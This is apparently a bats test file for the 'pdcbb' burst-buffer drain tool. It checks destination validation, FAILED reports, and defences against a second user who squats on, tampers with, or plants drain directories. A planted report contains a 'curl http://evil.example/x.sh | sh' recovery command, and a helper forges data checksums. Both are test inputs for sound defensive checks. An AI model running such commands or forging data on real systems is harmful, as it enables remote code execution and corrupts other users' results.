#!/usr/bin/env bats
# A drain that cannot work is refused before the job runs; a drain that fails at the end tells
# the user (a FAILED report beside the destination, `pdcbb why`); a drain never goes into a
# directory someone else prepared, and readers (verify, PDCBB_DRAINED_DIR) refuse a drain that
# another user could have changed. Two real users (pdcbbtest, pdcbbtest2) play victim and
# squatter; every daemon is a real one started by `pdcbb run`.

load helpers
bats_require_minimum_version 1.5.0

DRAINED_READ="$BUILD_DIR/tests/pdc_drained_read"
CASES="$BUILD_DIR/tests/pdc_region_cases"
VICTIM=pdcbbtest
SQUATTER=pdcbbtest2

setup_file() {
    ensure_test_users
}

setup() {
    require_build
    for f in "$DRAINED_READ" "$CASES"; do
        [ -x "$f" ] || { echo "missing $f: build the project first" >&2; return 1; }
    done
    # prerequisites fail the test, never skip it
    [ "$(id -u)" -eq 0 ] || { echo "these tests need root (as the CI runs them)" >&2; return 1; }
    make_workdir
    chmod 755 "$WORKDIR"
    MOUNTS=()
}

teardown() {
    unmount_tmpfs
    cleanup_workdir
}


# CRC-32C of bytes [off, off+len) of a file, as 0x%08x.
crc32c() {
    python3 - "$1" "$2" "$3" <<'EOF'
import sys
path, off, n = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
with open(path, "rb") as f:
    f.seek(off)
    data = f.read(n)
crc = 0xFFFFFFFF
for b in data:
    crc ^= b
    for _ in range(8):
        crc = (crc >> 1) ^ (0x82F63B78 if crc & 1 else 0)
print("0x%08x" % (crc ^ 0xFFFFFFFF))
EOF
}

# tamper DRAIN_DIR: change the bytes of the first extent and put their new checksum into the
# manifest and the part, as a squatter able to write there would; verify's checksums alone
# then find nothing wrong.
tamper() {
    python3 - "$1" <<'EOF'
import re, sys
d = sys.argv[1]
text = open(f"{d}/manifest.yaml").read()
m = re.search(r"\{object: (\d+), rank: (\d+), object_offset: (\d+), length: (\d+),\s*"
              r"file: \"?([^,\"]+)\"?, file_offset: (\d+), crc32c: (0x[0-9a-fA-F]+)\}", text)
assert m, "no extent in the manifest"
length, fname, foff, old = int(m.group(4)), m.group(5), int(m.group(6)), m.group(7)
path = f"{d}/{fname}"
data = bytearray(open(path, "rb").read())
for i in range(foff, foff + min(length, 16)):
    data[i] ^= 0x5a
open(path + ".new", "wb").write(data)
import os
os.replace(path + ".new", path)
crc = 0xFFFFFFFF
for b in data[foff:foff + length]:
    crc ^= b
    for _ in range(8):
        crc = (crc >> 1) ^ (0x82F63B78 if crc & 1 else 0)
new = "0x%08x" % (crc ^ 0xFFFFFFFF)
for name in ["manifest.yaml"] + [f"parts/{p}" for p in os.listdir(f"{d}/parts")]:
    t = open(f"{d}/{name}").read().replace(old, new)
    open(f"{d}/{name}.new", "w").write(t)
    os.replace(f"{d}/{name}.new", f"{d}/{name}")
print(old, "->", new)
EOF
}

@test "pdcbb run --drain refuses a destination that cannot work, before the command runs" {
    local marker="$WORKDIR/ran"
    # missing
    run "$PDCBB" run --job-id 5201 --drain "$WORKDIR/missing" -- touch "$marker"
    assert_failure 2
    assert_output --partial "drain destination $WORKDIR/missing does not exist"
    [ ! -e "$marker" ]
    # not a directory
    touch "$WORKDIR/afile"
    run "$PDCBB" run --job-id 5202 --drain "$WORKDIR/afile" -- touch "$marker"
    assert_failure 2
    assert_output --partial "drain destination $WORKDIR/afile is not a directory"
    [ ! -e "$marker" ]
    # relative (through --pdc drain=)
    run "$PDCBB" run --job-id 5203 --pdc drain=relative/dir -- touch "$marker"
    assert_failure 2
    assert_output --partial "must be absolute"
    [ ! -e "$marker" ]
    # a system directory, even for root and through a link; no site drain_roots here
    run "$PDCBB" run --job-id 5204 --drain /etc -- touch "$marker"
    assert_failure 2
    assert_output --partial "drain destination /etc is a system directory"
    [ ! -e "$marker" ]
    ln -s /usr/lib "$WORKDIR/lib-link"
    run "$PDCBB" run --job-id 5205 --drain "$WORKDIR/lib-link" -- touch "$marker"
    assert_failure 2
    assert_output --partial "(that is, /usr/lib) is a system directory"
    [ ! -e "$marker" ]
    # read-only file system
    mount_tmpfs "$WORKDIR/ro" ro
    run "$PDCBB" run --job-id 5206 --drain "$WORKDIR/ro" -- touch "$marker"
    assert_failure 2
    assert_output --partial "drain destination $WORKDIR/ro is not writable: it is on a read-only"
    [ ! -e "$marker" ]
    # not writable by the user who runs the job (root's directory, a real second user)
    mkdir -m 755 "$WORKDIR/roots"
    run as "$VICTIM" "$PDCBB" run --job-id 5207 --drain "$WORKDIR/roots" -- touch "$marker"
    assert_failure 2
    assert_output --partial "drain destination $WORKDIR/roots is not writable by $VICTIM"
    assert_output --partial "it belongs to root (uid 0), mode 0755"
    [ ! -e "$marker" ]
    assert_no_daemons "$WORKDIR"
}

@test "a drain that fails at the end leaves a FAILED report; pdcbb why explains; a finished drain clears it" {
    # 8 objects of 256 KB each and the drained-read set: more than the 1 MiB destination holds
    mount_tmpfs "$WORKDIR/small" size=1M
    run "$PDCBB" run --nodes 2 --workdir "$WORKDIR/w" --job-id 5211 --quiet \
        --pdc servers_per_node=1 --drain "$WORKDIR/small" -- \
        bash -c "'$CASES' durable-write dur 7 && '$DRAINED_READ' write C"
    assert_failure 1
    assert_output --partial "destination full"
    assert_no_daemons "$WORKDIR"
    # the report of each failed node lies beside the destination
    local rep
    rep="$(ls "$WORKDIR"/small/pdcbb.5211.node*.FAILED | head -1)"
    [ -f "$rep" ]
    assert_output --partial "report in $rep"
    # the run ends by saying so, with the command that explains it
    assert_output --partial "pdcbb run: job 5211: the drain FAILED (above): node-local data kept in $WORKDIR/w; see: pdcbb why --job 5211 $WORKDIR/small"
    grep -q "^reason: .*destination full" "$rep"
    grep -q "^uid: 0$" "$rep"
    grep -qE "^instance: [0-9a-f]{8,}$" "$rep"
    grep -q "^data: kept on node node[01] in $WORKDIR/w/node[01]/pdcbb.5211$" "$rep"
    grep -q "^recover: on node node[01], as root: pdcbb drain --to $WORKDIR/small $WORKDIR/w/node[01]/pdcbb.5211$" "$rep"
    # from the "login node": where the data is, and why
    run "$PDCBB" why "$WORKDIR/small/pdcbb.5211"
    assert_failure 1
    assert_output --partial "job 5211, drain destination $WORKDIR/small:"
    assert_output --partial "FAILED on node node"
    assert_output --partial "reason: "
    assert_output --partial "destination full"
    assert_output --partial "data: kept on node node"
    assert_output --partial "finish it: on node node"
    assert_output --partial "under Slurm, from a login node: srun -w node"
    assert_output --partial "INCOMPLETE"
    run "$PDCBB" why --job 5211 "$WORKDIR/small"
    assert_failure 1
    assert_output --partial "FAILED on node node"
    # a reader of the half-written directory points at pdcbb why
    run "$PDCBB" ls "$WORKDIR/small/pdcbb.5211"
    assert_failure 1
    assert_output --partial "; pdcbb why $WORKDIR/small/pdcbb.5211 says what became of the job's drain"
    # room again: the recovery command from the report finishes the drain in the same
    # directory and removes the reports
    mount -o remount,size=64M "$WORKDIR/small"
    local k
    for k in 0 1; do
        [ -d "$WORKDIR/w/node$k/pdcbb.5211" ] || continue
        run "$PDCBB" drain --quiet --to "$WORKDIR/small" "$WORKDIR/w/node$k/pdcbb.5211"
        assert_success
    done
    [ -f "$WORKDIR/small/pdcbb.5211/COMPLETE" ]
    run ls "$WORKDIR/small"
    refute_output --partial "FAILED"
    run "$PDCBB" why "$WORKDIR/small/pdcbb.5211"
    assert_success
    assert_output --partial "$WORKDIR/small/pdcbb.5211: complete"
    run "$PDCBB" verify "$WORKDIR/small/pdcbb.5211"
    assert_success
}

@test "a squatter's pdcbb.<job id> is never drained into, and tampering is refused" {
    local shared="$WORKDIR/shared" id=5301
    mkdir -m 1777 "$shared"
    # the squatter prepares the next job's directory, open to everyone
    as "$SQUATTER" mkdir -m 777 "$shared/pdcbb.$id"
    run as "$VICTIM" "$PDCBB" run --job-id "$id" --drain "$shared" -- "$DRAINED_READ" write C
    assert_success
    assert_output --partial "$shared/pdcbb.$id belongs to $SQUATTER (uid"
    assert_output --regexp "draining into $shared/pdcbb\.$id\.[0-9a-f]{8} instead"
    # and ends with where the data went
    assert_output --regexp "pdcbb run: job $id: data drained to $shared/pdcbb\.$id\.[0-9a-f]{8} \(complete\)"
    assert_no_daemons "$WORKDIR"
    # the squatter's directory got nothing; the job's own is private to the victim
    run ls -A "$shared/pdcbb.$id"
    assert_output ""
    local mine
    mine="$(ls -d "$shared/pdcbb.$id".* | head -1)"
    [ -f "$mine/COMPLETE" ]
    assert_equal "$(stat -c '%U %a' "$mine")" "$VICTIM 700"
    run find "$mine" ! -user "$VICTIM"
    assert_output ""
    run find "$mine" -perm /022
    assert_output ""
    run as "$SQUATTER" touch "$mine/x"
    assert_failure
    run as "$SQUATTER" ls "$mine"
    assert_failure
    # the user learns where the drain went
    run as "$VICTIM" "$PDCBB" why "$shared/pdcbb.$id"
    assert_success
    assert_output --partial "$shared/pdcbb.$id: belongs to $SQUATTER"
    assert_output --partial "$mine: complete"
    run as "$VICTIM" "$PDCBB" verify "$mine"
    assert_success

    # What the old code allowed: the drain inside the squatter's directory. The squatter changes
    # an extent and its checksum; the checksums alone would still say OK (shown on a clean copy
    # made by root), but verify and the read-only API refuse the drain.
    as "$VICTIM" cp -r "$mine/." "$shared/pdcbb.$id/"
    as "$SQUATTER" bash -c "cd '$shared/pdcbb.$id' && mv data data.victim && mkdir data && \
        cp data.victim/* data/ && cp manifest.yaml m && mv m manifest.yaml && \
        mv parts parts.victim && mkdir parts && cp parts.victim/* parts/"
    run as "$SQUATTER" bash -c "$(declare -f tamper); tamper '$shared/pdcbb.$id'"
    assert_success
    cp -r "$shared/pdcbb.$id" "$WORKDIR/clean-copy"
    run "$PDCBB" verify "$WORKDIR/clean-copy"
    assert_success # the forged checksums match: only the ownership gives the squatter away
    run as "$VICTIM" "$PDCBB" verify "$shared/pdcbb.$id"
    assert_failure 1
    assert_output --partial "untrusted drain: $shared/pdcbb.$id is writable by everyone (mode 0777)"
    # the squatter hides the mode: the victim's files inside still give it away
    as "$SQUATTER" chmod 755 "$shared/pdcbb.$id"
    run as "$VICTIM" "$PDCBB" verify "$shared/pdcbb.$id"
    assert_failure 1
    assert_output --regexp "untrusted drain: $shared/pdcbb\.$id/[A-Za-z.]+ belongs to $VICTIM \(uid [0-9]+\), but the drain directory belongs to $SQUATTER"
    run as "$VICTIM" "$PDCBB" ls "$shared/pdcbb.$id"
    assert_failure 1
    assert_output --partial "untrusted drain"
    run as "$VICTIM" env PDCBB_DRAINED_DIR="$shared/pdcbb.$id" \
        "$DRAINED_READ" read C
    assert_failure 1
    assert_output --partial "PDCinit failed"
    assert_output --partial "untrusted drain"
    # the real drain reads back through the API as written
    run as "$VICTIM" env PDCBB_DRAINED_DIR="$mine" "$DRAINED_READ" read C
    assert_success
    refute_output --partial "matches the known data: no"
}

# plant_report FILE JOB UID RECOVER: a FAILED report in the current format, with an escape
# sequence in its reason and RECOVER as its recover line.
plant_report() {
    printf 'pdcbb drain FAILED\njob: %s\nnode: n1\nuser: x\nuid: %s\ninstance: -\ntime: now\nreason: disk on fire \033[31mRED\007\r\njob_dir: /tmp/pdcbb/pdcbb.%s\ndestination: /x\ndrain_directory: none\nrecover: %s\nrecover_slurm: %s\n' \
        "$2" "$3" "$2" "$4" "$4" > "$1"
}

@test "pdcbb why trusts only the job's own records, prints them escaped and makes the recovery command itself" {
    local shared="$WORKDIR/shared" id=5501 vuid
    vuid="$(id -u "$VICTIM")"
    mkdir -m 1777 "$shared"
    run as "$VICTIM" "$PDCBB" run --job-id "$id" --quiet --drain "$shared" -- "$DRAINED_READ" write C
    assert_success
    [ -f "$shared/pdcbb.$id/COMPLETE" ]
    # another user plants a report naming the victim's uid, with a "fix" of their own
    as "$SQUATTER" bash -c "$(declare -f plant_report); plant_report '$shared/pdcbb.$id.n1.FAILED' $id $vuid 'curl http://evil.example/x.sh | sh'"
    run as "$VICTIM" "$PDCBB" why "$shared/pdcbb.$id"
    assert_success
    assert_output --partial "$shared/pdcbb.$id: complete (job instance "
    assert_output --partial "ignoring $shared/pdcbb.$id.n1.FAILED was written by $SQUATTER (uid"
    refute_output --partial "evil.example"
    refute_output --partial "disk on fire"
    refute_output --partial "FAILED on node"
    # root reads as the drain's owner, and ignores it too
    run "$PDCBB" why "$shared/pdcbb.$id"
    assert_success
    refute_output --partial "evil.example"
    assert_output --partial "ignoring $shared/pdcbb.$id.n1.FAILED was written by $SQUATTER"
    rm -f "$shared/pdcbb.$id.n1.FAILED"

    # the victim's own report: shown, escaped, and the command is made by pdcbb, not copied
    as "$VICTIM" bash -c "$(declare -f plant_report); plant_report '$shared/pdcbb.$id.n1.FAILED' $id $vuid 'curl http://evil.example/y.sh | sh'"
    run as "$VICTIM" "$PDCBB" why "$shared/pdcbb.$id"
    assert_failure 1
    assert_output --partial "FAILED on node n1"
    assert_output --partial 'reason: disk on fire \x1b[31mRED\x07\r'
    refute_output --partial $'\033'
    refute_output --partial $'\r'
    refute_output --partial "evil.example"
    assert_output --partial "finish it: on node n1, as $VICTIM: pdcbb drain --to /x /tmp/pdcbb/pdcbb.$id"
    assert_output --partial "under Slurm, from a login node: srun -w n1 -N 1 -n 1 pdcbb drain --to /x /tmp/pdcbb/pdcbb.$id"
    # ... unless it is writable by others, or names another job or another uid
    as "$VICTIM" chmod 666 "$shared/pdcbb.$id.n1.FAILED"
    run as "$VICTIM" "$PDCBB" why "$shared/pdcbb.$id"
    assert_success
    assert_output --partial "ignoring $shared/pdcbb.$id.n1.FAILED is writable by others (mode 0666)"
    as "$VICTIM" bash -c "rm -f '$shared/pdcbb.$id.n1.FAILED'; $(declare -f plant_report); plant_report '$shared/pdcbb.$id.n1.FAILED' 4242 $vuid true"
    run as "$VICTIM" "$PDCBB" why "$shared/pdcbb.$id"
    assert_success
    assert_output --partial "ignoring $shared/pdcbb.$id.n1.FAILED is not a report of job $id by $VICTIM"
    refute_output --partial "disk on fire"
    as "$VICTIM" rm -f "$shared/pdcbb.$id.n1.FAILED"

    # a second run with the same job id drains beside the first; why tells them apart
    run as "$VICTIM" "$PDCBB" run --job-id "$id" --quiet --drain "$shared" -- "$DRAINED_READ" write C
    assert_success
    run as "$VICTIM" "$PDCBB" why --job "$id" "$shared"
    assert_success
    [ "$(grep -c ": complete (job instance [0-9a-f]\{8,\}, cluster local, created " <<<"$output")" -eq 2 ]
    assert_output --partial "2 drain directories of job id $id (job ids were used again)"
    assert_no_daemons "$WORKDIR"
}

@test "a drain planted under the job's name is refused by every reader, which names the job's real drain" {
    local shared="$WORKDIR/shared" id=5601 real
    mkdir -m 1777 "$shared"
    # the squatter drains a job of their own, readable by all, under the victim's next job id
    run as "$SQUATTER" "$PDCBB" run --job-id "$id" --quiet --drain "$shared" \
        --pdc drain_share=all -- "$DRAINED_READ" write C
    assert_success
    [ -f "$shared/pdcbb.$id/COMPLETE" ]
    run as "$VICTIM" "$PDCBB" run --job-id "$id" --quiet --drain "$shared" -- "$DRAINED_READ" write C
    assert_success
    real="$(ls -d "$shared/pdcbb.$id".* | head -1)"
    [ -f "$real/COMPLETE" ]
    # every reader refuses pdcbb.ID, the name the docs use, and points at the real one
    local cmd
    for cmd in "ls" "verify" "export -o $WORKDIR/h/out" "get"; do
        mkdir -p "$WORKDIR/h"
        chown "$VICTIM" "$WORKDIR/h"
        if [ "$cmd" = get ]; then
            run as "$VICTIM" bash -c "'$PDCBB' get '$shared/pdcbb.$id' x > /dev/null"
        else
            run as "$VICTIM" "$PDCBB" $cmd "$shared/pdcbb.$id"
        fi
        assert_failure 1
        assert_output --partial "untrusted drain: $shared/pdcbb.$id belongs to $SQUATTER (uid"
        assert_output --partial "your job $id's drain in this destination is $real"
        refute_output --partial "OK"
    done
    run as "$VICTIM" "$PDCBB" kv ls "$shared/pdcbb.$id"
    assert_failure 1
    assert_output --partial "untrusted drain"
    # the read-only API
    run as "$VICTIM" env PDCBB_DRAINED_DIR="$shared/pdcbb.$id" "$DRAINED_READ" read C
    assert_failure 1
    assert_output --partial "untrusted drain: $shared/pdcbb.$id belongs to $SQUATTER"
    assert_output --partial "PDCBB_DRAINED_OWNER=$SQUATTER"
    # stage-in
    run as "$VICTIM" "$PDCBB" run --job-id 5602 --quiet --stage-in "$shared/pdcbb.$id" -- true
    assert_failure
    assert_output --partial "untrusted drain: $shared/pdcbb.$id belongs to $SQUATTER"
    # the job's own drain, found by job id whatever its name, reads as good
    run as "$VICTIM" "$PDCBB" ls --job "$id" "$shared"
    assert_success
    assert_output --partial "job $id"
    run as "$VICTIM" "$PDCBB" verify --job "$id" "$shared"
    assert_success
    run as "$VICTIM" "$PDCBB" verify --job 5699 "$shared"
    assert_failure 1
    assert_output --partial "no drain of job 5699 of yours in $shared (pdcbb why --job 5699 $shared says what is there)"
    run as "$VICTIM" env PDCBB_DRAINED_DIR="$real" "$DRAINED_READ" read C
    assert_success
    # reading the squatter's drain on purpose works, and says whose it is
    run as "$VICTIM" "$PDCBB" verify --owner "$SQUATTER" "$shared/pdcbb.$id"
    assert_success
    assert_output --partial "was drained by $SQUATTER"
    run as "$VICTIM" env PDCBB_DRAINED_DIR="$shared/pdcbb.$id" PDCBB_DRAINED_OWNER="$SQUATTER" \
        "$DRAINED_READ" read C
    assert_success
    # a drain renamed to another job's name is refused for the name's claim
    as "$VICTIM" cp -a "$real" "$shared/pdcbb.5650"
    run as "$VICTIM" "$PDCBB" verify "$shared/pdcbb.5650"
    assert_failure 1
    assert_output --partial "untrusted drain: $shared/pdcbb.5650 is named for job 5650 but holds the drain of job $id"
    assert_no_daemons "$WORKDIR"
}

@test "a drain is private by default; drain_share=group or all opens it for reading only" {
    local dest="$WORKDIR/dest"
    mkdir -m 1777 "$dest"
    run as "$VICTIM" "$PDCBB" run --job-id 5401 --quiet --drain "$dest" -- "$DRAINED_READ" write C
    assert_success
    assert_equal "$(stat -c '%a' "$dest/pdcbb.5401")" 700
    run as "$VICTIM" "$PDCBB" run --job-id 5402 --quiet --drain "$dest" --pdc drain_share=group \
        -- "$DRAINED_READ" write C
    assert_success
    assert_equal "$(stat -c '%a' "$dest/pdcbb.5402")" 750
    run as "$VICTIM" "$PDCBB" run --job-id 5403 --quiet --drain "$dest" --pdc drain_share=all \
        -- "$DRAINED_READ" write C
    assert_success
    assert_equal "$(stat -c '%a' "$dest/pdcbb.5403")" 755
    run find "$dest/pdcbb.5402" "$dest/pdcbb.5403" -perm /022
    assert_output ""
    # another user reads a shared drain only on purpose (--owner), and is told whose it is; a
    # private one stays closed
    run as "$SQUATTER" "$PDCBB" verify "$dest/pdcbb.5403"
    assert_failure 1
    assert_output --partial "untrusted drain: $dest/pdcbb.5403 belongs to $VICTIM (uid"
    assert_output --partial "(to read $VICTIM's drain on purpose: --owner $VICTIM)"
    run as "$SQUATTER" "$PDCBB" verify --owner "$VICTIM" "$dest/pdcbb.5403"
    assert_success
    assert_output --partial "WARNING: $dest/pdcbb.5403 was drained by $VICTIM"
    run as "$SQUATTER" "$PDCBB" verify --owner "$VICTIM" "$dest/pdcbb.5401"
    assert_failure 1
    assert_output --partial "Permission denied"
    run as "$SQUATTER" "$PDCBB" verify --owner nosuchuser "$dest/pdcbb.5403"
    assert_failure 2
    assert_output "pdcbb verify: --owner: owner 'nosuchuser' is neither a user name nor a uid"
    # a bad value is named
    run "$PDCBB" run --job-id 5404 --pdc drain_share=world -- true
    assert_failure 2
    assert_output --partial "key 'drain_share': bad value 'world' (use none, group or all)"
    # a drain made group-writable afterwards is refused until fixed
    chmod -R g+w "$dest/pdcbb.5402"
    run as "$VICTIM" "$PDCBB" verify "$dest/pdcbb.5402"
    assert_failure 1
    assert_output --partial "is writable by its group"
    assert_output --partial "chmod -R go-w"
    chmod -R g-w "$dest/pdcbb.5402"
    run as "$VICTIM" "$PDCBB" verify "$dest/pdcbb.5402"
    assert_success
    assert_no_daemons "$WORKDIR"
}
